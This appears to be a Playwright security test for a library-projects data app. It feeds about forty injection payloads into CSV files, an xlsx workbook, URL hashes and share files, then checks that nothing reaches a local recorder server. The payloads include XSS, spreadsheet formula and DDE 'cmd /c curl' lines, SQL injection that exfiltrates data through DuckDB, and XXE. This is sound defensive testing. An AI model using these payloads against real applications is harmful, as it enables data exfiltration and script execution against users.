import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import type { Browser, Page } from 'playwright/test';
import { book, sheetXml } from '../ingest/books';
import { hostileCopy } from './hostile-copy';
import { choose, dressed, drawn, follow, open, text, toTheEnd } from './pages';
import { expect, test } from './test';

/** Everything that is asked of an origin that is not ours. */
async function recorder() {
	const asked: string[] = [];
	const server = createServer((request, response) => {
		asked.push(`${request.method} ${request.url}`);
		response.setHeader('access-control-allow-origin', '*').end('window.ran = 1');
	});
	await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
	const { port } = server.address() as AddressInfo;
	return { asked, host: `127.0.0.1:${port}`, close: () => server.close() };
}

/** Ways out, each asking for an address of its own: `out` is whatever listens, `at` which way it was. */
const ways = ((out: string): string[] =>
	[
		(at: number) => `<script src="http://${out}/${at}"></script>`,
		(at: number) => `<img src="http://${out}/${at}" onerror="fetch('http://${out}/${at}')">`,
		(at: number) => `<svg onload="fetch('http://${out}/${at}')"><image href="http://${out}/${at}"/></svg>`,
		(at: number) => `<svg><script href="http://${out}/${at}"/></svg>`,
		(at: number) => `<svg><foreignObject><img src="http://${out}/${at}"></foreignObject></svg>`,
		(at: number) => `<svg><use href="http://${out}/${at}#a"/></svg>`,
		(at: number) => `</text></svg><img src="http://${out}/${at}">`,
		(at: number) => `<iframe src="http://${out}/${at}"></iframe>`,
		(at: number) => `<iframe srcdoc="<script src=http://${out}/${at}></script>"></iframe>`,
		(at: number) => `<object data="http://${out}/${at}"></object><embed src="http://${out}/${at}">`,
		(at: number) => `<link rel="stylesheet" href="http://${out}/${at}">`,
		(at: number) => `<link rel="prefetch" href="http://${out}/${at}">`,
		(at: number) => `<style>@import url("http://${out}/${at}");</style>`,
		(at: number) => `" style="background:url(http://${out}/${at})" x="`,
		(at: number) => `' onfocus='fetch("http://${out}/${at}")' autofocus tabindex='0`,
		(at: number) => `<video poster="http://${out}/${at}"></video><audio src="http://${out}/${at}"></audio>`,
		(at: number) => `<base href="http://${out}/${at}/">`,
		(at: number) => `<form action="http://${out}/${at}"><button autofocus>x</button></form>`,
		(at: number) => `<meta http-equiv="refresh" content="0;url=http://${out}/${at}">`,
		(at: number) => `<a href="http://${out}/${at}" ping="http://${out}/${at}">x</a>`,
		(at: number) => `<math><mi xlink:href="http://${out}/${at}">x</mi></math>`,
		(at: number) => `javascript:fetch('http://${out}/${at}')`,
		(at: number) => `data:text/html,<script src=http://${out}/${at}></script>`,
		(at: number) => `![x](http://${out}/${at}) [y](javascript:fetch('http://${out}/${at}'))`,
		(at: number) => `{{constructor.constructor("fetch('http://${out}/${at}')")()}}`,
		(at: number) => `\${fetch('http://${out}/${at}')}`,
		(at: number) => `//${out}/${at}`,
		(at: number) => `http://${out}/${at}`,
		(at: number) => `=WEBSERVICE("http://${out}/${at}")`,
		(at: number) => `=HYPERLINK("http://${out}/${at}";"x")`,
		(at: number) => `+IMPORTDATA("http://${out}/${at}")`,
		(at: number) => `@SUM(1)*cmd|'/c curl http://${out}/${at}'!A0`,
		(at: number) => `'; FROM read_csv('http://${out}/${at}'); --`,
		(at: number) => `'; FROM read_parquet('http://${out}/${at}'); --`,
		(at: number) => `' UNION ALL SELECT content FROM read_text('http://${out}/${at}') --`,
		(at: number) => `"; COPY measurement TO 'http://${out}/${at}'; --`,
		(at: number) => `'); ATTACH 'http://${out}/${at}' AS stolen; --`,
		(at: number) =>
			`'; SET custom_extension_repository='http://${out}/${at}'; INSTALL httpfs; LOAD httpfs; --`,
		(at: number) => `<!DOCTYPE x [<!ENTITY y SYSTEM "http://${out}/${at}">]>&y;`,
		(at: number) => `<?xml-stylesheet href="http://${out}/${at}"?>`
	].map((way, at) => way(at + 1))) satisfies (out: string) => string[];

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
const table = (header: string, rows: readonly (readonly string[])[]) =>
	text([header, ...rows.map((row) => row.map(quoted).join(','))].join('\r\n'));

/** Each way in each place of each table that holds words. */
function files(all: readonly string[]) {
	const id = (at: number) => `p${at}`;
	const rows = (row: (way: string, at: number) => readonly string[]) => all.map(row);
	const indicator =
		'indicator_id,name_en,name_es,definition_en,definition_es,question_en,question_es,unit_en,unit_es,value_type,agg_within_project,agg_across_projects,core_value,level,tier,source,scope,project_id';
	return [
		{
			name: `${all[1]!.replaceAll('/', '∕')}.csv`,
			buffer: table(
				'project_id,project_name,country,library_type,city,library_name,host_organization,community_name,funder,grant_id,cohort,library_subtype',
				rows((way, at) => [id(at), way, 'PE', 'public', way, way, way, way, way, way, way, way])
			)
		},
		{
			name: 'measurements.csv',
			buffer: table(
				'project_id,indicator_id,phase,stage,period_end,value,n,note',
				rows((way, at) => [id(at), 'felt_heard', 'III', 'routine', '2019-06-30', '3.5', '20', way])
			)
		},
		{
			name: 'narratives.csv',
			buffer: table(
				'project_id,field,lang,text',
				rows((way, at) => [id(at), at % 2 ? 'lessons' : 'social_changes', 'es', way])
			)
		},
		{
			name: 'changes.csv',
			buffer: table(
				'project_id,date,change_type,intended,title,text,evidence,linked_indicator',
				rows((way, at) => [id(at), '2019-06-01', 'policy', 'yes', way, way, way, 'felt_heard'])
			)
		},
		{
			name: 'partners.csv',
			buffer: table(
				'project_id,name,kind,role,since',
				rows((way, at) => [id(at), way, way, way, '2019-01-01'])
			)
		},
		{
			name: 'indicators.csv',
			buffer: table(
				indicator,
				rows((way, at) =>
					[
						`local_w${at}`,
						...Array<string>(8).fill(way),
						'count',
						'sum',
						'sum',
						'civic_action',
						'output',
						'optional'
					].concat(way, 'local', id(at))
				)
			)
		},
		{
			name: 'wide.csv',
			buffer: table(
				['Proyecto', 'País', 'Tipo de biblioteca', 'Fecha de corte', 'Participantes', ...all]
					.map(quoted)
					.join(','),
				[['Otra', 'Perú', 'Pública', '30/11/2019', '35', ...all]]
			)
		}
	];
}

/** A workbook whose own parts ask for things: links, pictures, other books, an entity, a schema. */
const workbook = (out: string) =>
	Buffer.from(
		book(
			[
				{
					name: 'Hoja1',
					xml: `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY out SYSTEM "http://${out}/book-entity">]>${sheetXml(
						[
							['Proyecto', 'País', 'Tipo de biblioteca', 'Fecha de corte', 'Participantes'],
							['Libro', 'Perú', 'Pública', '2019-11-30', 12]
						],
						`<hyperlinks><hyperlink ref="A1" r:id="rId9"/></hyperlinks><drawing r:id="rId8"/>`
					)}`
				}
			],
			{
				'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships><Relationship Id="rId9" Type="hyperlink" Target="http://${out}/book-link" TargetMode="External"/><Relationship Id="rId8" Type="drawing" Target="http://${out}/book-drawing" TargetMode="External"/></Relationships>`,
				'xl/externalLinks/externalLink1.xml': `<externalLink><externalBook r:id="rId1"/></externalLink>`,
				'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships><Relationship Id="rId1" Type="externalLinkPath" Target="http://${out}/book-book" TargetMode="External"/></Relationships>`,
				'xl/connections.xml': `<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://${out}/book-query"/></connection></connections>`
			}
		)
	);

/** The texts of a Minga file that anybody could write, with ways out in them. */
function poisoned(bytes: Buffer, all: readonly string[]): Buffer {
	const parts = unzipSync(bytes);
	const manifest = JSON.parse(strFromU8(parts['manifest.json']!)) as {
		app: string;
		name: string;
		imports: { note: string; by: string }[];
	};
	manifest.app = all[6]!;
	manifest.name = all[7]!;
	for (const each of manifest.imports) [each.note, each.by] = [all.join(' '), all.join(' ')];
	parts['manifest.json'] = strToU8(JSON.stringify(manifest));
	return Buffer.from(zipSync(parts));
}

const everywhere = [
	'/',
	'/compare',
	'/compare#indicator=felt_heard&by=library_type&panels=country',
	'/change',
	'/journey',
	'/stories#field=lessons',
	'/stories#field=social_changes',
	'/people',
	'/place',
	'/trust',
	'/peers#project=p1',
	'/projects',
	'/projects#project=p1',
	'/collect',
	'/data',
	'/dictionary',
	'/paper#phase=II&project=p1',
	'/report',
	'/report#project=p1',
	'/share',
	'/where',
	'/fill#project=p1&country=PE&lang=es&phase=III&ask=felt_heard'
] as const;

/** A page with an eye on all that it asks for, runs and says, and all the ways out to whatever listens. */
async function watched(browser: Browser, baseURL: string, isOpen: boolean) {
	const { asked, host, close } = await recorder();
	const all = ways(host);
	expect(new Set(all).size).toBeGreaterThanOrEqual(40);
	const context = await browser.newContext({
		baseURL,
		locale: 'en-US',
		bypassCSP: isOpen,
		viewport: { width: 1280, height: 900 }
	});
	const page = await context.newPage();
	const ran: string[] = [];
	const watch = (each: Page) => {
		each.on('dialog', (dialog) => {
			ran.push(`dialog: ${dialog.message()}`);
			void dialog.dismiss();
		});
		each.on('pageerror', (error) => ran.push(error.message));
	};
	watch(page);
	context.on('request', (request) => {
		if (request.url().includes(host)) ran.push(`asked for ${request.url()}`);
	});
	/** Everything on a page that can be opened is opened, and stays where it is. */
	const look = async (address: string) => {
		// The form of a library stands alone, without what is loaded and with a language of its own.
		const isApart = (path: string) => path.startsWith('/fill');
		const isLoaded = address === '/' || isApart(address) || isApart(new URL(page.url()).pathname);
		await (isLoaded ? page.goto(address) : follow(page, address));
		await expect(page.locator('main h1').first()).toBeVisible();
		if (!isApart(address)) await expect(page.locator('header .loaded')).toContainText('projects');
		for (const summary of await page.locator('main summary:visible').all()) await summary.click();
		expect(new URL(page.url()).host, address).toBe(new URL(baseURL).host);
		expect(await page.evaluate(() => 'ran' in window), address).toBe(false);
	};
	return { asked, all, host, context, page, ran, look, close };
}

// The last long ones: both processors have one.
test.describe.configure({ mode: 'parallel' });

for (const isOpen of dressed([true, false])) {
	test(`forty ways out of a file, a workbook, a link and a Minga file lead nowhere, the policy ${isOpen ? 'switched off' : 'as it is'}`, async ({
		browser,
		baseURL
	}) => {
		test.setTimeout(300_000);
		const { asked, all, host, context, page, ran, look, close } = await watched(browser, baseURL!, isOpen);

		// That it would be noticed: the same words as markup, where nothing keeps them in.
		const naive = await context.newPage();
		const control = await recorder();
		for (const [at, way] of ways(control.host).slice(0, 12).entries()) {
			const before = control.asked.length;
			await naive.setContent(way, { waitUntil: 'commit' });
			if ([0, 1, 2, 7, 9].includes(at))
				await expect.poll(() => control.asked.length, way).toBeGreaterThan(before);
		}
		await naive.close();
		control.close();

		await open(page, '/data');
		await choose(page, [
			...files(all),
			{ name: 'libro.xlsx', mimeType: 'application/octet-stream', buffer: workbook(host) }
		]);
		await toTheEnd(page);
		await page.getByRole('button', { name: /^Confirm/ }).click();
		await page.getByLabel('A name for this import').fill(all.join(' '));
		await page.getByRole('button', { name: /^Import \d/ }).click();
		await expect(page.getByRole('button', { name: 'Undo this import' })).toBeVisible();
		for (const address of everywhere) await look(address);

		// What is taken away, opened where nothing of ours watches over it.
		await page.goto('/compare#indicator=felt_heard&by=country');
		await drawn(page);
		await page.getByRole('button', { name: 'Take it with you' }).click();
		const [svg] = await Promise.all([
			page.waitForEvent('download'),
			page.getByRole('button', { name: 'Picture (SVG)' }).click()
		]);
		const picture = await context.newPage();
		await picture.setContent(await readFile(await svg.path(), 'utf8'));
		await picture.goto(`data:image/svg+xml;base64,${(await readFile(await svg.path())).toString('base64')}`);
		await picture.close();

		const hashes = all.flatMap((way) => {
			const said = encodeURIComponent(way);
			return [`grant=${said}&cohort=${said}`, `project=${said}`, `indicator=${said}&by=${said}`, said];
		});
		for (const address of ['/compare', '/projects', '/dictionary', '/paper', '/peers', '/help']) {
			await page.goto(`${address}#${hashes[7]}`);
			await expect(page.locator('main h1').first()).toBeVisible();
			await page.evaluate(async (all) => {
				for (const hash of all) {
					location.hash = hash;
					await new Promise((next) => setTimeout(next));
				}
			}, hashes);
			expect(new URL(page.url()).pathname).toBe(address);
		}

		await page.goto('/data');
		const [minga] = await Promise.all([
			page.waitForEvent('download'),
			page.getByRole('button', { name: 'Save as a Minga file' }).click()
		]);
		const theirs = poisoned(await readFile(await minga.path()), all);
		await choose(page, [
			{ name: `${all[2]!.replaceAll('/', '∕')}.minga`, mimeType: 'application/octet-stream', buffer: theirs }
		]);
		await page.getByLabel('Name of the workspace').fill(all[3]!);
		await page.getByRole('button', { name: 'Open as a workspace of its own' }).click();
		await expect(page.getByRole('heading', { level: 1 })).toContainText('is open');
		for (const address of ['/', '/data', '/projects#project=p2'] as const) await look(address);

		expect(ran).toEqual([]);
		expect(asked).toEqual([]);
		await context.close();
		close();
	});

	test(`forty ways out of a share copy lead nowhere, the policy ${isOpen ? 'switched off' : 'as it is'}`, async ({
		browser,
		baseURL
	}) => {
		test.setTimeout(300_000);
		const { asked, all, context, page, ran, look, close } = await watched(browser, baseURL!, isOpen);
		await open(page, '/data');
		await choose(page, [
			{
				name: `${all[3]!.replaceAll('/', '∕')}.minga-copy`,
				mimeType: 'application/octet-stream',
				buffer: hostileCopy(all)
			}
		]);
		await expect(page.getByRole('heading', { level: 1 })).toHaveText('The share copy is open');
		for (const address of [
			...everywhere,
			'/dictionary#indicator=ollas',
			'/compare#indicator=ollas&by=population_group'
		])
			await look(address);
		// What was looked at all the while is what was opened: the tab keeps it.
		await page.goto('/projects#project=p1');
		await expect(page.locator('main')).toContainText(all[1]!);
		expect(ran).toEqual([]);
		expect(asked).toEqual([]);
		await context.close();
		close();
	});
}
